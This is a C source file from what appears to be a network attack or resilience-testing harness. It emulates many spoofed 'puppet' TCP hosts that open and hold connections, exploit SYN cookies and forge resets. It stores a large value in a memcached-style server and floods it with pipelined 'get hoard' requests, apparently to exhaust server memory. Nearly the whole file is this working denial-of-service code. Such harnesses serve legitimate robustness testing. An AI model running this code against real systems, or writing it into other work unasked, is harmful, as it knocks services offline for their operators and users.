/* SPDX-License-Identifier: MIT */
/* Hosts of the attacker's own: enough of TCP to be believed. */
#include "attacker.h"

enum {
	PORT_BASE = 20000,
	ROUND_MS = 100, /* then SYNs are repeated */
	OPEN_S = 2,	/* and then given up */
	END_ROUNDS = 20,
};

static u32 tsval(void)
{
	return (u32)(now_ns() >> 20);
}

static void begin(struct attack *a, u32 i, const struct manner *how)
{
	u32 isn = random32(a);

	a->puppets[i] =
		(struct puppet){ .ip = puppet_ip(i % a->naddrs),
				 .port = (u16)(PORT_BASE + i / a->naddrs),
				 .state = P_ASKS,
				 .win = how->win,
				 .ts = how->ts,
				 .acks = how->acks,
				 .snd_nxt = isn,
				 .snd_una = isn };
	a->npuppets = max(a->npuppets, i + 1);
}

static struct puppet *find(struct attack *a, u32 ip, u16 port)
{
	u32 i = ip - PUPPET_NET + (u32)(port - PORT_BASE) * a->naddrs;

	return i < a->npuppets ? &a->puppets[i] : NULL;
}

static void send_syn(struct attack *a, struct puppet *p,
		     const struct manner *how)
{
	send_seg(a, &(struct seg){ .src = p->ip,
				   .sport = p->port,
				   .seq = p->snd_nxt - 1,
				   .flags = TCP_SYN,
				   .win = p->win,
				   .ts = how->ts,
				   .tsval = tsval(),
				   .opt = how->opt,
				   .nopt = how->nopt });
}

void puppet_send(struct attack *a, struct puppet *p, int32_t off,
		 const void *data, uint16_t len, uint8_t flags)
{
	send_seg(a, &(struct seg){ .src = p->ip,
				   .sport = p->port,
				   .seq = p->snd_nxt + (u32)off,
				   .ack = p->rcv_nxt,
				   .flags = flags,
				   .win = p->win,
				   .data = data,
				   .len = len,
				   .ts = p->ts,
				   .tsval = tsval(),
				   .tsecr = p->tsecr });
	if (!off)
		p->snd_nxt += len + !!(flags & TCP_FIN);
}

void puppet_says(struct attack *a, uint32_t i, const char *text)
{
	struct puppet *p = &a->puppets[i];

	if (p->state == P_OPEN)
		puppet_send(a, p, 0, text, (u16)strlen(text),
			    TCP_ACK | TCP_PSH);
}

void puppets_ask(struct attack *a, uint32_t n, const struct manner *how)
{
	for (u32 i = 0; i < n; i++) {
		struct puppet *p = &a->puppets[i];

		if (i >= a->npuppets || p->state != P_ASKS)
			begin(a, i, how);
		send_syn(a, p, how);
	}
	sync_up(a);
}

/* Whoever was sent away may have a connection all the same: by a cookie that
 * his ACK brought back afterwards. */
void puppets_all_open(struct attack *a)
{
	for (u32 i = 0; i < a->npuppets; i++)
		if (a->puppets[i].state == P_GONE)
			a->puppets[i].state = P_OPEN;
}

void puppets_fill(struct attack *a, uint32_t n, const struct manner *how)
{
	for (u32 i = 0; i < n; i++) {
		struct puppet *p = &a->puppets[i];

		if (i >= a->npuppets || p->state == P_GONE)
			begin(a, i, how);
		if (p->state == P_ASKS)
			send_syn(a, p, how);
		else if (p->state == P_OPEN)
			puppet_send(a, p, 0, NULL, 0, TCP_ACK);
	}
	sync_up(a);
}

uint32_t puppets_open(struct attack *a, uint32_t n, const struct manner *how)
{
	u64 until = now_ns() + OPEN_S * 1000000000ull;
	u32 open = 0, asking = n;

	puppets_ask(a, n, how);
	while (!a->gone && now_ns() < until) {
		for (u64 t = now_ns() + ROUND_MS * 1000000ull; now_ns() < t;) {
			hear(a, 1);
			open = asking = 0;
			for (u32 i = 0; i < n; i++) {
				open += a->puppets[i].state == P_OPEN;
				asking += a->puppets[i].state == P_ASKS;
			}
			if (!asking)
				return open;
		}
		for (u32 i = 0; i < n; i++)
			if (a->puppets[i].state == P_ASKS)
				send_syn(a, &a->puppets[i], how);
		sync_up(a);
	}
	return open;
}

static void opened(struct attack *a, struct puppet *p, const struct tcp_hdr *t)
{
	if (be32_host(t->ack) != p->snd_nxt || a->half_open)
		return;
	a->opened += p->state == P_ASKS;
	p->state = P_OPEN;
	p->rcv_nxt = be32_host(t->seq) + 1;
	puppet_send(a, p, 0, NULL, 0, TCP_ACK);
}

/* The server still has an earlier connection of that name: RFC 9293 section
 * 3.5.1. */
static void reset_old(struct attack *a, const struct puppet *p,
		      const struct tcp_hdr *t)
{
	send_seg(a, &(struct seg){ .src = p->ip,
				   .sport = p->port,
				   .seq = be32_host(t->ack),
				   .flags = TCP_RST });
}

/* What comes on an open connection. */
static void take(struct attack *a, struct puppet *p, const struct tcp_hdr *t,
		 u32 len)
{
	u32 ack = be32_host(t->ack);

	if ((s32)(ack - p->snd_una) > 0)
		p->snd_una = ack;
	if (be32_host(t->seq) == p->rcv_nxt) {
		p->rcv_nxt += len;
		p->got += len;
		if (t->flags & TCP_FIN) {
			p->rcv_nxt++;
			p->fin = true;
		}
	}
	if (p->acks && (len || t->flags & TCP_FIN))
		puppet_send(a, p, 0, NULL, 0, TCP_ACK);
}

/* Not one that is about an earlier connection of that name, or an earlier
 * handshake: the server would keep what is thought to be gone. */
static bool reset_counts(const struct puppet *p, const struct tcp_hdr *t)
{
	if (p->state == P_ASKS)
		return t->flags & TCP_ACK && be32_host(t->ack) == p->snd_nxt;
	return be32_host(t->seq) == p->rcv_nxt;
}

/* The server's timestamp, wherever in the options; it may hold a cookie. */
static void note_ts(struct puppet *p, const struct tcp_hdr *t)
{
	const u8 *o = (const u8 *)(t + 1), *end = (const u8 *)t + t->off / 4;
	struct be32 ts;

	while (o + 10 <= end && *o && *o != TCP_OPT_TS)
		o += *o == TCP_OPT_NOP ? 1 : max(o[1], (u8)2);
	if (o + 10 > end || *o != TCP_OPT_TS)
		return;
	memcpy(&ts, o + 2, 4);
	p->tsecr = be32_host(ts);
}

void puppet_hears(struct attack *a, uint32_t ip, const struct tcp_hdr *t,
		  uint32_t len)
{
	struct puppet *p = find(a, ip, be16_host(t->dport));

	if (!p || p->state == P_CLOSED)
		return;
	p->heard++;
	if (t->flags & TCP_RST) {
		if (reset_counts(p, t))
			p->state = P_GONE;
		return;
	}
	if (p->ts)
		note_ts(p, t);
	if (t->flags & TCP_SYN)
		opened(a, p, t);
	else if (p->state == P_ASKS)
		reset_old(a, p, t);
	else if (p->state == P_OPEN)
		take(a, p, t, len);
}

/* A reset counts only where the server expects the next byte; where that is, it
 * tells in its answer to an old segment, and that it has no connection any
 * more, by a reset. */
void puppets_end(struct attack *a)
{
	u32 open = 1;

	a->half_open = false;
	for (u32 r = 0; open && r < END_ROUNDS && !a->gone; r++) {
		open = 0;
		for (u32 i = 0; i < a->npuppets; i++) {
			struct puppet *p = &a->puppets[i];

			if (p->state == P_CLOSED || p->state == P_GONE)
				continue;
			open++;
			p->acks = false;
			p->snd_nxt = p->snd_una;
			puppet_send(a, p, -1, "o", 1, TCP_ACK);
			puppet_send(a, p, 0, NULL, 0, TCP_RST | TCP_ACK);
		}
		sync_up(a);
		hear(a, 1);
	}
	if (!open)
		a->npuppets = 0;
}

/* ---- requests */

static const char GET[] = "get hoard\r\n";

uint16_t request(const struct attack *a, char buf[MSS])
{
	u16 n = 0;

	if (!a->kv) {
		memset(buf, 'e', MSS);
		return MSS;
	}
	for (; n + sizeof(GET) <= 400; n += sizeof(GET) - 1)
		memcpy(buf + n, GET, sizeof(GET) - 1);
	return n;
}

bool prepare(struct attack *a, uint16_t bytes)
{
	const struct manner good = { .win = 65535, .ts = true, .acks = true };
	char text[MSS];
	struct puppet *p = &a->puppets[0];

	if (!a->kv)
		return true;
	if (puppets_open(a, 1, &good) != 1)
		return success(a, "no connection");
	snprintf(text, sizeof(text), "set hoard 0 0 %u\r\n", bytes);
	puppet_send(a, p, 0, text, (u16)strlen(text), TCP_ACK);
	memset(text, 'v', sizeof(text));
	for (u32 at = 0, n; at < bytes; at += n) {
		n = min(bytes - at, (u32)MSS);
		puppet_send(a, p, 0, text, (u16)n, TCP_ACK);
	}
	puppet_send(a, p, 0, "\r\n", 2, TCP_ACK | TCP_PSH);
	sync_up(a);
	for (u64 t = now_ns();
	     !p->got && now_ns() - t < LIMIT_S * 1000000000ull;)
		hear(a, 1);
	if (!p->got)
		return success(a, "the value was not stored");
	puppets_end(a);
	return true;
}
